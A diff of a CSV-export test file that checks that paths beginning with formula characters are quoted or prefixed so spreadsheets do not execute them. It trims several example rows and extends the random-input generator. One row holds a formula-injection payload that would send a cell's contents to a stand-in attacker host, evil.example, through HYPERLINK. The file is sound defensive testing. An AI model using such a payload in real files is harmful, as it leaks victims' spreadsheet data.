@@ -48,24 +48,13 @@ test.each([
   ['/a,b', '"/a,b"'],
   ['/say "hi"', '"/say ""hi"""'],
   ['/a\nb', '"/a\nb"'],
-  ['/a\rb', '"/a\rb"'],
-  ['/größe/😀', '/größe/😀'],
-  ['', ''],
   ['=1+1', "'=1+1"],
   ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
-  ['+1', "'+1"],
-  ['-1', "'-1"],
-  ['@SUM(A1)', "'@SUM(A1)"],
   ['\t=1', `"'\t=1"`],
-  ['\r=1', `"'\r=1"`],
-  ['\n=1', `"'\n=1"`],
   [' =1', "' =1"],
   ['\u200b=1', "'\u200b=1"],
   ['\ufeff=1', "'\ufeff=1"],
   ['＝1', "'＝1"],
-  ['＋1', "'＋1"],
-  ['－1', "'－1"],
-  ['＠1', "'＠1"],
   ['/a;=1', '"/a;=1"'],
   ['/a\t=1', '"/a\t=1"'],
 ])('CSV: the path %j is written as %j', (path, cell) => {
@@ -73,7 +62,7 @@ test.each([
 })
 
 test('CSV: any path is read back as one cell that no spreadsheet runs', () => {
-  const tricky = fc.string({ unit: fc.constantFrom(...'a=+-@,"\'\r\n\t＝ ') })
+  const tricky = fc.string({ unit: fc.constantFrom(...'a=+-@,"\'\r\n\t＝＋－＠ ') })
   fc.assert(
     fc.property(fc.array(fc.oneof(anyText, tricky)), (paths) => {
       const [, ...records] = splitCells(write('.csv', [paths.map((path) => row(path))]), ',')
